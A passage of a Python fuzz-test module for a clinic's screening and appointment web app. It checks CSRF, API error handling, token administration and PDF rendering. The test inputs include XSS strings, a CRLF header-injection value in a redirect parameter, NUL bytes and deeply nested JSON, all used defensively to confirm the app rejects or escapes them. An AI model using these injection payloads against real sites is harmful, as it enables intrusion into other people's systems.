        pairs = mutate(data.draw, pairs, ["csrf_token", "dob-day", "dob-month", "dob-year", "dob-unknown", "dob"],
                       ["1", "12", "1990"], [])
    before = appointment_state(app, invited["uid"])
    response = post_form(client, "/invitation", pairs)
    check(response, "check dob")
    after = appointment_state(app, invited["uid"])
    if first(pairs, "csrf_token") != good:  # the CSRF check comes first, locked or not
        assert response.status_code == 400 and after == before, response.status_code
        return
    if locked:
        assert response.status_code == 403 and after == before, response.status_code
        return
    d, m, y = (number((first(pairs, f"dob-{p}") or "").strip()) for p in ("day", "month", "year"))
    try:
        date = dt.date(y, m, d) if None not in (d, m, y) and len((first(pairs, "dob-year") or "").strip()) == 4 \
            else None
    except ValueError:
        date = None
    if date is not None and not (1900 <= date.year and TODAY.year - 120 <= date.year and date <= TODAY):
        date = None
    event(f"check dob: {'no date' if date is None else 'right' if date == dt.date(1990, 3, 27) else 'wrong'}")
    if date is None:
        assert response.status_code == 400 and after == before, (response.status_code, d, m, y)
        check_round_trip(response, pairs, "check dob")
    elif date == dt.date(1990, 3, 27):
        assert response.status_code == 303 and response.location.endswith("/invitation/booking")
        assert after["failures"] == 0 and after["draft_id"] is not None and not after["locked"]
    elif failures + 1 == 5:
        assert response.status_code == 403 and "This link is locked" in response.text
        assert after["failures"] == 5 and after["locked"]
        other = app.test_client()
        follow_link(other, invited["link"])
        assert other.get("/invitation").status_code == 403, "the link is locked, for every device"
    else:
        assert response.status_code == 400 and f"{5 - failures - 1} tries left" in response.text
        assert after == dict(before, failures=failures + 1)


@fuzz(12)
@given(data=st.data())
def test_fuzz_booking_check(app, invited, data):
    """Only "right" goes on to the questions and only "wrong" marks the booking as disputed; anything else is a
    400 that says what to select."""
    client = app.test_client()
    with app.app_context():
        a = appointments.by_uid(db.session, invited["uid"])
        a.mismatch = ""
        draft = appointments.start_screening(db.session, a, dt.timedelta(hours=1))
    follow_link(client, invited["link"], passed=True)
    with client.session_transaction() as session:
        session["draft"] = draft
    good = token(client, "/invitation/booking")
    facts = data.draw(st.one_of(st.sampled_from(["right", "wrong"]),
                                st.sampled_from(["right", "wrong", "", "Right", "right ", "yes"]), hostile_text()))
    pairs = mutate(data.draw, [("csrf_token", good), ("facts", facts)], ["csrf_token", "facts"], ["right", "wrong"],
                   [])
    before = appointment_state(app, invited["uid"])
    response = post_form(client, "/invitation/booking", pairs)
    check(response, "booking")
    after = appointment_state(app, invited["uid"])
    answer = first(pairs, "facts") if first(pairs, "csrf_token") == good else None
    if answer == "right":
        assert response.status_code == 302 and "/q/" in response.location and after == before
    elif answer == "wrong":
        assert response.status_code == 302 and response.location.endswith("/q/about-you")
        assert after == dict(before, mismatch="client")
    else:
        assert response.status_code == 400 and after == before, response.status_code
        if first(pairs, "csrf_token") == good:
            assert "Select yes if these details are right" in response.text


def check_json(response, what: str) -> None:
    """An API response: never a 5xx, JSON (problem details for an error) that no browser sniffs as a page.

    The API gives back what it was sent, payloads included, as JSON: ``check``'s "nothing posted becomes
    markup" holds through the content type and ``nosniff``, not by escaping."""
    if currently_in_test_context():
        event(f"{what}: {response.status_code}")
    assert response.status_code < 500, (what, response.status_code, response.get_data()[:300])
    assert response.mimetype in ("application/json", "application/problem+json"), response.mimetype
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    json.loads(response.get_data())


def json_value() -> st.SearchStrategy:
    """Any JSON value: hostile text, numbers (also huge, NaN and infinite), booleans, null, lists, objects."""
    leaf = st.one_of(hostile_text(), st.integers(), st.integers(-2**70, 2**70), st.floats(), st.booleans(),
                     st.none())
    return st.recursive(leaf, lambda inner: st.one_of(st.lists(inner, max_size=3),
                                                      st.dictionaries(hostile_text(), inner, max_size=3)),
                        max_leaves=6)


def api_body(draw) -> tuple[bytes, object]:
    """A request body and what it holds (``ValueError`` when it is not JSON at all)."""
    kind = draw(st.sampled_from(["booking", "booking", "booking", "booking", "other json", "not json", "deep"]))
    if kind == "not json":
        raw = draw(st.one_of(st.sampled_from([b"", b"{", b'{"name": }', b"\xff\xfe{}", b"{'a': 1}", b"NaN]",
                                              "\ud800".encode("utf-8", "surrogatepass"), b'{"a": 1} x']),
                             st.binary(max_size=50)))
    elif kind == "deep":
        depth = draw(st.sampled_from([100, 5000, 50_000]))
        inner = "[" * depth + "]" * depth
        raw = draw(st.sampled_from([inner, '{"name": ' + inner + "}", '{"a":' * depth + "1" + "}" * depth]))
        raw = raw.encode()
    else:
        if kind == "booking":
            value = booking_values(draw)
            value["external_id"] = draw(st.one_of(st.sampled_from(["BK-1", "BK-2", EXISTING]),
                                                  st.sampled_from([value["external_id"], "  ", "\x00", "\u200e"])))
            if draw(st.booleans()):
                value["areas"] = ";".join(value["areas"]) if isinstance(value["areas"], list) else value["areas"]
            for _ in range(draw(st.integers(0, 2))):
                op = draw(st.sampled_from(["type", "drop", "add", "surrogate"]))
                if op == "type":
                    value[draw(st.sampled_from(FIELD_NAMES))] = draw(json_value())
                elif op == "surrogate":  # JSON may escape half of a UTF-16 pair: a str no database can store
                    key = draw(st.sampled_from(["name", "email", "phone", "external_id"]))
                    value[key] = draw(st.sampled_from(["Ann \ud800 Example", "\udc80", "x\udbff@example.org",
                                                       "BK-\ud83d"]))
                elif op == "drop":
                    value.pop(draw(st.sampled_from(FIELD_NAMES)), None)
                else:
                    value[draw(st.one_of(st.sampled_from(["Name", "notes", "", "__proto__", "id"]), hostile_text()))] \
                        = draw(json_value())
        else:
            value = draw(json_value())
        raw = json.dumps(value, ensure_ascii=draw(st.booleans())).encode("utf-8", "surrogatepass")
    try:
        return raw, json.loads(raw or b"null")
    except (ValueError, RecursionError) as exc:
        return raw, exc


@pytest.fixture
def api(app):
    """The bearer token of an integration, and an appointment it booked with the external_id EXISTING."""
    add_staff(app, PRACTITIONER, ["admin", "desk", "practitioner"])
    with app.app_context():
        bearer = create_token(db.session, "fuzz")
    uid, _link = book_appointment(app, external_id=EXISTING)
    return {"headers": {"Authorization": f"Bearer {bearer}"}, "existing": uid}


@fuzz(30)
@given(data=st.data())
def test_fuzz_api_create(app, api, data):
    """A create answers 201 (a new appointment), 200 (the same as EXISTING), 409 (EXISTING's id, another booking),
    422 naming exactly the fields at fault, 400 (not a JSON object) or 415 (not JSON): never a 500, an error always
    as problem+json, and a row stored only with a 201."""
    client = app.test_client()
    raw, value = api_body(data.draw)
    ctype = data.draw(st.one_of(st.just("application/json"), st.sampled_from([
        "application/json", "application/json; charset=utf-8", "text/plain", "application/x-www-form-urlencoded",
        "application/problem+json", "multipart/form-data; boundary=x", None])))
    headers = dict(api["headers"])
    if data.draw(st.sampled_from([False] * 7 + [True]), label="another token"):
        headers["Authorization"] = data.draw(st.sampled_from(["", "Bearer", "Bearer ", "Basic eDp5", "Bearer scr_x",
                                                              headers["Authorization"].lower(),
                                                              headers["Authorization"] + "x"]))
    before = count(app, Appointment)
    response = client.post("/api/v1/appointments", data=raw, headers=headers,
                           **({"content_type": ctype} if ctype else {}))
    check_json(response, "api create")
    created = count(app, Appointment) - before
    authorised = headers["Authorization"] in (api["headers"]["Authorization"],
                                              "bearer " + api["headers"]["Authorization"][7:])
    if len(raw) > 256 * 1024:  # the app's MAX_CONTENT_LENGTH (a body of another type may be refused unread)
        expected = response.status_code if response.status_code == 415 and \
            (ctype or "").split(";")[0] != "application/json" else 413
        if not authorised and response.status_code == 401:
            expected = 401  # a request without a valid token is refused before its body is read
    elif (ctype or "").split(";")[0] != "application/json":
        expected = 415  # the app refuses a body that is not JSON before the API reads the token
    elif not authorised:
        expected = 401
    elif isinstance(value, Exception) or not isinstance(value, dict):
        expected = 400
    elif not isinstance(value.get("external_id"), str) or not typed(value["external_id"]):
        expected = 422  # required, as text: one of blanks or invisible characters only is missing
    else:
        faults, booking = booking_faults(value)
        replay = typed(value["external_id"]) == EXISTING
        halves = {k for k, v in value.items() if isinstance(v, str) and any(unicodedata.category(c) == "Cs" for c in v)}
        if halves:
            # A lone surrogate: the field refused (422), or the character dropped as a control character is; never
            # stored as it came (no encoding has it), never a 500.
            allowed = (422,) if faults - halves else ((200, 409, 422) if replay else (201, 422))
            expected = response.status_code if response.status_code in allowed else 422
            if expected == 201:
                with app.app_context():
                    stored = db.session.scalar(select(Appointment).order_by(Appointment.id.desc()))
                    assert not any(unicodedata.category(c) == "Cs" for c in stored.client_name + stored.client_email)
        elif faults:
            expected = 422
            assert response.status_code != 422 or {e["field"] for e in response.json["errors"]} == faults, \
                (response.json, faults)
        elif replay:
            expected = 200 if booking == EXISTING_BOOKING else 409
        else:
            expected = 201
    event(f"api create: {expected}")
    assert response.status_code == expected, (response.status_code, expected, raw[:300], response.get_data()[:500])
    assert created == (expected == 201), created
    if expected >= 400:
        assert response.mimetype == "application/problem+json", response.mimetype
        assert response.json["status"] == expected
    else:
        body = response.json
        assert body["external_id"] == typed(value["external_id"]), body
        assert body["name"] == typed(value["name"]) or any(unicodedata.category(c) == "Cs" for c in value["name"])
        assert response.headers["Location"].endswith("/api/v1/appointments/" + quote(body["external_id"]))
        drop_appointments(app, keep=api["existing"])


@fuzz(15)
@given(data=st.data())
def test_fuzz_api_tokens(app, booker, data):
    """An admin creates a booking system's token (shown once, 200) only under a new name of 1 to 60 characters,
    and revokes a live one by its name (303 whatever the name); nothing changes otherwise."""
    client = booker["client"]
    with app.app_context():
        db.session.execute(delete(ApiToken).where(ApiToken.name != "Timely"))
        db.session.execute(update(ApiToken).values(revoked_at=None))
        db.session.commit()
        if not db.session.scalar(select(func.count()).select_from(ApiToken)):
            create_token(db.session, "Timely")
    good = token(client, "/staff/admin/api-tokens")
    action = data.draw(st.sampled_from(["create", "revoke"]), label="action")
    name = data.draw(st.one_of(st.sampled_from(["Cliniko", "  Fresha   booking ", "Timely", " timely", "a" * 60,
                                                "a" * 61, "", f"<script>x{TOKEN}7</script>", "Ti\x00mely"]),
                               hostile_text()))
    pairs = [("csrf_token", good), ("name", name)]
    if data.draw(st.booleans()):
        pairs = mutate(data.draw, pairs, ["csrf_token", "name"], ["Timely"], [])
    with app.app_context():
        before = {n: r is not None for n, r in db.session.execute(select(ApiToken.name, ApiToken.revoked_at))}
    url = "/staff/admin/api-tokens" + ("/revoke" if action == "revoke" else "")
    response = post_form(client, url, pairs)
    check(response, f"api token {action}")
    with app.app_context():
        after = {n: r is not None for n, r in db.session.execute(select(ApiToken.name, ApiToken.revoked_at))}
    typed_name = first(pairs, "name") or ""
    if first(pairs, "csrf_token") != good:
        assert response.status_code == 400 and after == before, response.status_code
    elif action == "create":
        wanted = typed(typed_name)  # stored as typed text is: control, bidi and surrogate characters dropped
        if wanted and len(wanted) <= 60 and wanted not in before:
            assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"
            assert re.search(r"scr_[A-Za-z0-9_-]{40,}", response.text), "the token is shown once"
            assert after == dict(before, **{wanted: False}), after
        else:
            assert response.status_code == 400 and after == before, (response.status_code, wanted)
            check_round_trip(response, pairs, "api token")
    else:
        assert response.status_code == 303, response.status_code
        # Only the exact name of a live token revokes it (one that cleaning would change names no token).
        assert after == (dict(before, **{typed_name[:60]: True}) if before.get(typed_name[:60]) is False else before)


def test_the_api_answers_401_to_a_staff_session_without_a_bearer_token(app):
    """The API reads no cookie: a signed-in desk's browser (a page of another site posting to it) is a 401."""
    client = staff_client(app, add_staff(app, PRACTITIONER, ["admin", "desk", "practitioner"]))
    csrf = token(client, "/staff/appointments/new")
    body = dict(GOOD_BOOKING, external_id="BK-1")
    for headers in ({}, {"X-CSRFToken": csrf}, {"Authorization": ""}, {"Authorization": "Bearer "}):
        response = client.post("/api/v1/appointments", json=body, headers=headers)
        assert response.status_code == 401, (headers, response.status_code)
        assert response.mimetype == "application/problem+json" and response.headers["WWW-Authenticate"]
        check_json(response, "api without a token")
    assert count(app, Appointment) == 0


# -- query strings on every page -----------------------------------------------------------------------

QUERY_NAMES = ["date", "outcome", "status", "page", "action", "actor", "date_from", "date_to", "next", "expired",
               "change", "version", "download", "timeout", "signed_out", "reference", "name", "day", "q",
               "not_screened"]


def get_urls(app, staff) -> list[str]:
    """One URL for each GET route (staff ones with real references), and some odd paths."""
    args = {"page_id": qd.PAGES[0].id, "reference": staff["today"], "user_id": staff["user_id"],
            "uid": staff["uid"], "client_uid": client_uid(app, staff["uid"]), "token": "x" * 43,
            "external_id": EXISTING}
    urls = []
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.endpoint == "static":
            continue
        if rule.endpoint == "questionnaire.logo":
            continue  # no logo configured: a plain 404
        urls.append(rule.build({a: args[a] for a in rule.arguments})[1])
    return sorted(urls) + ["/q/%ED%A0%80", "/staff/submissions/%3Cscript%3E", "/q/%00", "/staff/desk/%FF/pdf",
                           "/staff/appointments/%00", "/i/%00", "/staff/clients/%00", "/today/%00"]


@fuzz(40)
@given(data=st.data())
def test_fuzz_query_strings(app, staff, data):
    if "pdf" not in staff:  # render each PDF once, so that the examples serve stored ones
        for reference in (staff["today"], staff["signed"]):
            assert staff["client"].get(f"/staff/submissions/{reference}/pdf").status_code == 200
        staff["pdf"] = True
        staff["public"] = app.test_client()
        new_draft(app, staff["public"], BASE)
        staff["uid"] = book_appointment(app, external_id=EXISTING)[0]
    url = data.draw(st.sampled_from(get_urls(app, staff)), label="url")
    client = staff["client"] if url.startswith("/staff/") else staff["public"]
    args = data.draw(query_pairs(QUERY_NAMES))
    response = client.get(url + ("?" + urlencode(args) if args else ""))
    check(response, url)
    assert response.status_code < 500


# -- CSRF, sizes ---------------------------------------------------------------------------------------


def test_every_post_route_refuses_a_missing_or_wrong_csrf_token(app):
    """With the right client for each form (kiosk, staff, a complete draft), a bad token is a 400, nothing saved."""
    user_id = add_staff(app, "boss@clinic.test", ["admin", "desk", "practitioner"])
    other = add_staff(app, "other@clinic.test", ["desk"])
    reference = make_submission(app, dict(BASE, appointment_date=TODAY.isoformat()))
    public, kiosk_client = app.test_client(), enter_kiosk(app, user_id)
    new_draft(app, public, BASE)
    new_draft(app, kiosk_client, BASE)
    staff = staff_client(app, user_id)
    uid, link = book_appointment(app)
    day_client = day_of_client(app, day_of_submission(app))
    invited_client, passed_client = app.test_client(), app.test_client()
    follow_link(invited_client, link)
    follow_link(passed_client, link, passed=True)
    with app.app_context():
        draft = appointments.start_screening(db.session, appointments.by_uid(db.session, uid), dt.timedelta(hours=1))
    with passed_client.session_transaction() as session:
        session["draft"] = draft
    foreign = csrf_token(app.test_client().get("/").text)  # a valid token, of another session
    urls = {
        "questionnaire.begin": (public, "/start"), "questionnaire.page": (public, f"/q/{qd.PAGES[0].id}"),
        "questionnaire.declaration": (public, "/declaration"),
        "questionnaire.under_18": (public, "/q/under-18"),
        "questionnaire.kiosk.exit": (kiosk_client, "/kiosk/exit"),
        "questionnaire.kiosk.reset": (kiosk_client, "/kiosk/reset"),
        "questionnaire.kiosk.alive": (kiosk_client, "/kiosk/alive"),
        "staff.login": (app.test_client(), "/staff/login"), "staff.logout": (staff, "/staff/logout"),
        "staff.extend": (staff, "/staff/session/extend"), "staff.submissions": (staff, "/staff/submissions"),
        "staff.sign_off": (staff, f"/staff/submissions/{reference}/sign-off"),
        "staff.addendum": (staff, f"/staff/submissions/{reference}/addenda"),
        "staff.next_session": (staff, f"/staff/submissions/{reference}/next-session"),
        "staff.arrived": (staff, f"/staff/desk/{reference}/arrived"),
        "staff.kiosk_start": (staff, "/staff/kiosk/start"),
        "staff.deactivate": (staff, f"/staff/admin/users/{other}/deactivate"),
        "staff.invite_user": (staff, "/staff/admin/users/invite"),
        "staff.change_roles": (staff, f"/staff/admin/users/{other}/roles"),
        "staff.resend_invite": (staff, f"/staff/admin/users/{other}/invite"),
        "staff.reactivate": (staff, f"/staff/admin/users/{other}/reactivate"),
        "staff.forgotten_password": (app.test_client(), "/staff/password/forgotten"),
        "staff.choose_password": (app.test_client(), "/staff/password/new"),
        "staff.new_appointment": (staff, "/staff/appointments/new"),
        "staff.import_csv": (staff, "/staff/appointments/import"),
        "staff.resend": (staff, f"/staff/appointments/{uid}/resend"),
        "staff.copy_link": (staff, f"/staff/appointments/{uid}/link"),
        "staff.unlock": (staff, f"/staff/appointments/{uid}/unlock"),
        "staff.cancel": (staff, f"/staff/appointments/{uid}/cancel"),
        "staff.attach": (staff, f"/staff/appointments/{uid}/attach"),
        "invitation.check_dob": (invited_client, "/invitation"),
        "invitation.booking": (passed_client, "/invitation/booking"),
        "staff.create_api_token": (staff, "/staff/admin/api-tokens"),
        "staff.revoke_api_token": (staff, "/staff/admin/api-tokens/revoke"),
        # two-factor sign-in: the token is checked before the pending sign-in or the account is looked at
        "staff.second_factor": (staff, "/staff/login/two-factor"),
        "staff.passkey_options": (staff, "/staff/login/passkey/options"),
        "staff.passkey_sign_in": (staff, "/staff/login/passkey"),
        "staff.enrol": (staff, "/staff/login/set-up"),
        "staff.enrol_passkey_options": (staff, "/staff/login/set-up/passkey/options"),
        "staff.enrol_passkey": (staff, "/staff/login/set-up/passkey"),
        "staff.security_totp": (staff, "/staff/account/security/app"),
        "staff.security_totp_remove": (staff, "/staff/account/security/app/remove"),
        "staff.passkey_register_options": (staff, "/staff/account/security/passkeys/options"),
        "staff.passkey_register": (staff, "/staff/account/security/passkeys"),
        "staff.passkey_rename": (staff, "/staff/account/security/passkeys/rename"),
        "staff.passkey_remove": (staff, "/staff/account/security/passkeys/remove"),
        "staff.recovery_codes": (staff, "/staff/account/security/recovery-codes"),
        "staff.reset_two_factor": (staff, f"/staff/admin/users/{other}/two-factor"),
        "staff.merge": (staff, f"/staff/clients/{client_uid(app, uid)}/merge"),
        "staff.attach_to_client": (staff, f"/staff/clients/{client_uid(app, uid)}/attach"),
        "staff.not_arrived": (staff, f"/staff/desk/{reference}/not-arrived"),
        "staff.confirm_here": (staff, f"/staff/desk/{reference}/confirm-here"),
        "staff.redo_here": (staff, f"/staff/desk/{reference}/redo-here"),
        "dayof.confirm": (day_client, "/today"),
        "dayof.changes": (day_client, "/today/changes"),
    }
    # The API takes no CSRF token: it reads a bearer token, never a cookie (see the 401 test below).
    assert set(urls) == set(FUZZED) - {"api.create"}
    data = {"action": "restart", "confirm": "y", "signature": NAME, "email": "boss@clinic.test",
            "password": PASSWORD, "decision": "decline", "ack_0": "yes", "text": "note", "name": "Ann",
            **page_data(qd.PAGES[0], BASE), **{k: v for k, v in GOOD_BOOKING.items() if k != "name"},
            "reference": reference, "facts": "wrong", "dob-day": "1", "dob-month": "1", "dob-year": "1991"}
    with app.app_context():
        tables = [Draft, Submission, Review, Addendum, Arrival, KioskSession, Appointment, InvitationLink, Outbox,
                  ApiToken]
        before = {m.__name__: db.session.scalar(select(func.count()).select_from(m)) for m in tables}
    booked = appointment_state(app, uid)
    for endpoint, (client, url) in urls.items():
        good = token(client, "/kiosk/exit" if client is kiosk_client else "/staff/desk" if client is staff else "/")
        for bad in ([], [("csrf_token", "")], [("csrf_token", "x" * 90)], [("csrf_token", foreign)],
                    [("csrf_token", good[:-2] + "zz")], [("csrf_token", "\x00")], [("csrf_token", b"\xff")],
                    [("csrf_token", "wrong"), ("csrf_token", good)]):
            response = post_form(client, url, bad + pairs_of(data))
            assert response.status_code == 400, (endpoint, bad, response.status_code)
            check(response, endpoint)
        response = client.post(url, json={"csrf_token": good, **data})  # not a form at all
        assert response.status_code == 415, (endpoint, "json", response.status_code)
        check(response, endpoint)
        # The token in its header reaches the form: only the body's type is refused, whatever the body holds.
        for body in ({"csrf_token": good, **data}, {"email": 5, "password": [1], "signature": {"a": None}},
                     "[" * 20000 + "]" * 20000):
            response = client.post(url, data=body if isinstance(body, str) else json.dumps(body),
                                   content_type="application/json", headers={"X-CSRFToken": good})
            assert response.status_code == 415, (endpoint, "json with the token", response.status_code)
            check(response, endpoint)
        # A multipart form whose text field is a file: refused, never read as text.
        response = client.post(url, data={"csrf_token": good, **{k: v for k, v in data.items() if k != "email"},
                                          "email": (io.BytesIO(b"boss@clinic.test"), "email.txt")},
                               content_type="multipart/form-data")
        assert response.status_code == 400, (endpoint, "multipart file", response.status_code)
        check(response, endpoint)
    with app.app_context():
        after = {m.__name__: db.session.scalar(select(func.count()).select_from(m)) for m in tables}
        assert after == before
        assert db.session.scalar(select(StaffUser.is_active).where(StaffUser.id == other))
        assert appointment_state(app, uid) == booked  # not cancelled, unlocked, attached, disputed or tried
        assert db.session.scalar(select(func.count()).select_from(StaffSession)
                                 .where(StaffSession.ended_at.is_not(None))) == 1  # the kiosk's start only


def test_an_oversized_post_is_refused_with_413_and_saves_nothing(app):
    client = app.test_client()
    new_draft(app, client, BASE)
    big = [("csrf_token", token(client, "/q/about-you")), ("full_name", "a" * (300 * 1024))]
    for url in ("/start", "/q/about-you", "/declaration", "/staff/login"):
        response = post_form(client, url, big)
        assert response.status_code == 413, (url, response.status_code)
        check(response, url)
    assert load_draft(app, client).answers == BASE


# -- the PDF -----------------------------------------------------------------------------------------------


def words(text: str) -> str:
    return " ".join(text.split())


def pdf_text(data: bytes) -> str:
    return words(" ".join(page.extract_text() or "" for page in PdfReader(io.BytesIO(data)).pages))


def test_the_pdf_shows_payloads_as_text(app):
    """HTML and script in free-text answers, notes and addenda are printed literally in the PDFs, never run."""
    user_id = add_staff(app, "prac@clinic.test", ["practitioner"])
    reference = make_submission(app, FLAGGED)
    note, addendum = f"<script>x{TOKEN}5</script> <b>n</b>", f'"><img src=x onerror=x{TOKEN}6> & <i>a</i>'
    with app.app_context(), app.test_request_context():
        row = db.session.scalar(select(Submission).where(Submission.reference == reference))
        text = pdf_text(services.ensure_pdf(db.session, row, app.config["CLINIC"]))
        for payload in (NAME, EMAIL, MEDICINE):
            assert words(payload) in text, payload
        flags = len(row.result["flags"])
        prac = db.session.get(StaffUser, user_id)
        rs.sign_off(db.session, row, prac, rs.SignOffInput(acknowledged=(True,) * flags,
                                                           flag_notes=(note,) * flags, decision="decline",
                                                           note=note), today=TODAY)
        rs.add_addendum(db.session, row, prac, addendum)
        signed = pdf_text(rs.render_signed_off_pdf(db.session, row, app.config["CLINIC"]))
        for payload in (NAME, note, addendum):
            assert words(payload) in signed, payload


# -- regressions: the bugs this fuzzing found, as plain tests ------------------------------------------------


def test_a_nul_in_a_sign_in_email_is_a_failed_sign_in_not_a_server_error(app):
    """PostgreSQL refuses a NUL in a query: the address matched no account, and the sign-in was a 500."""
    add_staff(app, "desk@clinic.test", ["desk"])
    client = app.test_client()
    response = post_form(client, "/staff/login", [("csrf_token", token(client, "/staff/login")),
                                                  ("email", "desk\x00@clinic.test"), ("password", PASSWORD)])
    assert response.status_code == 401
    kiosk_client = enter_kiosk(app, add_staff(app, "boss@clinic.test", ["desk"]))
    response = post_form(kiosk_client, "/kiosk/exit", [("csrf_token", token(kiosk_client, "/kiosk/exit")),
                                                       ("email", "\x00"), ("password", PASSWORD)])
    assert response.status_code == 401 and in_kiosk(kiosk_client)


@pytest.mark.parametrize("target", ["/staff/\r\nSet-Cookie: a=b", "/staff/desk\n", "/staff/\x00"])
def test_a_next_address_with_a_control_character_leads_home(app, target):
    """A newline in ?next= (sign-in) or next (stay signed in) went into the Location header: a 500."""
    add_staff(app, "desk@clinic.test", ["desk"])
    client = app.test_client()
    response = post_form(client, "/staff/login?" + urlencode({"next": target}),
                         [("csrf_token", token(client, "/staff/login")), ("email", "desk@clinic.test"),
                          ("password", PASSWORD)])
    assert response.status_code == 302 and response.location == "/staff/"
    response = post_form(client, "/staff/session/extend", [("csrf_token", token(client, "/staff/desk")),
                                                           ("next", target)])
    assert response.status_code == 302 and response.location == "/staff/"


@pytest.mark.parametrize("user_id", ["2147483648", "9" * 30])
def test_an_account_id_beyond_the_database_integer_is_a_404(app, user_id):
    """A number too large for the id column reached the database: OverflowError (SQLite), DataError (PostgreSQL)."""
    client = staff_client(app, add_staff(app, "admin@clinic.test", ["admin"]))
    response = post_form(client, f"/staff/admin/users/{user_id}/deactivate",
                         [("csrf_token", token(client, "/staff/admin/users"))])
    assert response.status_code == 404


@pytest.mark.parametrize("page_id, pairs", [
    ("pregnancy", [("pregnant", "   "), ("breastfeeding", "no")]),
    ("pregnancy", [("pregnant", "no"), ("breastfeeding", "\t")]),
    ("isotretinoin", [("isotretinoin_last_12m", "no"), ("topical_actives", " ")]),
    ("isotretinoin", [("isotretinoin_last_12m", "no"), ("topical_actives", "none"), ("topical_actives", "")]),
])
def test_a_blank_looking_choice_is_refused_not_stored(app, answering, page_id, pairs):
    """WTForms' Optional() cleared the "not a valid choice" error of a whitespace value: "   " was stored."""
    response = post_form(answering, f"/q/{page_id}", [("csrf_token", token(answering, f"/q/{page_id}"))] + pairs)
    assert response.status_code == 400
    assert "Select one of the options shown" in response.text
    assert load_draft(app, answering).answers == BASE


def test_control_characters_are_dropped_from_text_answers_and_the_signature(app, answering):
    """A NUL or an escape code typed into a text box was stored as it came (and, before encryption, was a 500)."""
    data = dict(page_data(qd.PAGES[0], BASE), full_name="Ann\x00 Ex\x1bample\x7f", email="ann\x00@example.org")
    response = post_form(answering, f"/q/{qd.PAGES[0].id}",
                         [("csrf_token", token(answering, f"/q/{qd.PAGES[0].id}"))] + pairs_of(data))
    assert response.status_code == 302
    stored = load_draft(app, answering).answers
    assert stored["full_name"] == "Ann Example" and stored["email"] == "ann@example.org"
    assert answer_problems(stored) == []
    response = post_form(answering, "/declaration", [("csrf_token", token(answering, "/declaration")),
                                                     ("confirm", "y"), ("signature", "ann \x00example")])
    assert response.status_code == 302 and response.location.endswith("/done")
    with app.app_context():
        assert db.session.scalar(select(Submission.signature_name)) == "ann example"


def test_a_kiosk_page_shows_what_was_typed_even_with_autocomplete_in_it(app, kiosk):
    """The kiosk's autofill rewrite took "autocomplete=x" typed into a box for an attribute, ate the closing quote
    of the value and changed what the box showed (and would send back)."""
    client = kiosk["client"]
    new_draft(app, client)
    typed = 'Ann autocomplete=x'
    response = post_form(client, "/q/about-you", [("csrf_token", token(client, "/q/about-you")),
                                                  ("full_name", typed), ("email", 'a autocomplete="on"@b.co')])
    assert response.status_code == 400
    values = input_values(response.text)
    assert values["full_name"] == [typed] and values["email"] == ['a autocomplete="on"@b.co']


# -- regressions: appointments (found by the fuzzing above; each fails until screening.appointments is fixed) ------
# One app per test (each case in a loop, named in its assertion), to keep to the module's time budget.


def api_client(app) -> tuple:
    """A client and the headers of a live bearer token (the account ``PRACTITIONER`` exists too)."""
    add_staff(app, PRACTITIONER, ["admin", "desk", "practitioner"])
    with app.app_context():
        return app.test_client(), {"Authorization": f"Bearer {create_token(db.session, 'regression')}"}


def test_a_very_long_booking_field_is_refused_not_a_server_error(app):
    """check_booking read LIMITS[field] to word the message for a field without a limit of its own (over 10,000
    characters: date_of_birth, date, time, treatment): KeyError, a 500 from the desk's form, the CSV import and
    the API."""
    client, headers = api_client(app)
    with app.app_context():
        staff = staff_client(app, db.session.scalar(select(StaffUser.id).where(StaffUser.email == PRACTITIONER)))
    csrf = token(staff, "/staff/appointments/new")
    for field in ("date_of_birth", "date", "time", "treatment"):
        booking = dict(GOOD_BOOKING, **{field: "1" * 10_001})
        response = post_form(staff, "/staff/appointments/new", [("csrf_token", csrf)] + pairs_of(booking))
        assert response.status_code == 400, ("form", field, response.status_code)
        text = io.StringIO()
        csv.writer(text).writerows([list(booking), [";".join(v) if isinstance(v, list) else v
                                                    for v in booking.values()]])
        response = staff.post("/staff/appointments/import", content_type="multipart/form-data", data={
            "csrf_token": csrf, "file": (io.BytesIO(text.getvalue().encode()), "bookings.csv")})
        assert response.status_code == 400, ("csv", field, response.status_code)
        response = client.post("/api/v1/appointments", json=dict(booking, external_id="BK-1"), headers=headers)
        assert response.status_code == 422, ("api", field, response.status_code)
        assert {e["field"] for e in response.json["errors"]} == {field}
    assert count(app, Appointment) == 0


def test_hostile_json_is_a_4xx_and_books_nothing(app):
    """Three 500s of the API's create:
    - a body nested some thousands deep: json.loads raises RecursionError (not a ValueError);
    - an external_id of blanks or invisible characters passed "external_id is required" (truthy), then cleaned to
      nothing: the appointment was booked without one and its invitation queued, then url_for("api.read",
      external_id=None) raised BuildError;
    - half of a UTF-16 pair escaped in a string ("\\ud800"): the str reached the database, which cannot encode it
      (UnicodeEncodeError). Refusing the field (422) or dropping the character (201) are both fine for this one."""
    client, headers = api_client(app)
    deep = "[" * 5000 + "]" * 5000
    for body in (deep, '{"name": ' + deep + "}", '{"a":' * 5000 + "1" + "}" * 5000):
        response = client.post("/api/v1/appointments", data=body, content_type="application/json", headers=headers)
        assert response.status_code == 400 and response.mimetype == "application/problem+json", body[:20]
    for external_id in ("  ", "\x00", "\u200e"):
        response = client.post("/api/v1/appointments", json=dict(GOOD_BOOKING, external_id=external_id),
                               headers=headers)
        assert response.status_code == 422, (external_id, response.status_code)
        assert response.json["errors"][0]["field"] == "external_id"
        assert count(app, Appointment) == 0 and count(app, Outbox) == 0, external_id
    for field, value in (("name", "Ann \ud800 Example"), ("email", "ann\udc80@example.org"),
                         ("external_id", "BK-\ud83d")):
        body = json.dumps(dict(GOOD_BOOKING, **{"external_id": f"BK-{field}", field: value}))  # ASCII: "\\ud800"
        response = client.post("/api/v1/appointments", data=body, content_type="application/json", headers=headers)
        assert response.status_code in (201, 422), (field, response.status_code)
        drop_appointments(app)


def test_a_nul_in_an_address_or_a_token_name_is_not_a_server_error(app):
    """PostgreSQL refuses a NUL in a query: an appointment's uid or an external_id in the address matched no
    appointment (404), a token's name no token, and each was a 500."""
    client, headers = api_client(app)
    with app.app_context():
        staff = staff_client(app, db.session.scalar(select(StaffUser.id).where(StaffUser.email == PRACTITIONER)))
    csrf = token(staff, "/staff/appointments/new")
    for action in ("resend", "link", "unlock", "cancel", "attach"):
        response = post_form(staff, f"/staff/appointments/a%00b/{action}", [("csrf_token", csrf)])
        assert response.status_code == 404, (action, response.status_code)
    assert staff.get("/staff/appointments/a%00b").status_code == 404
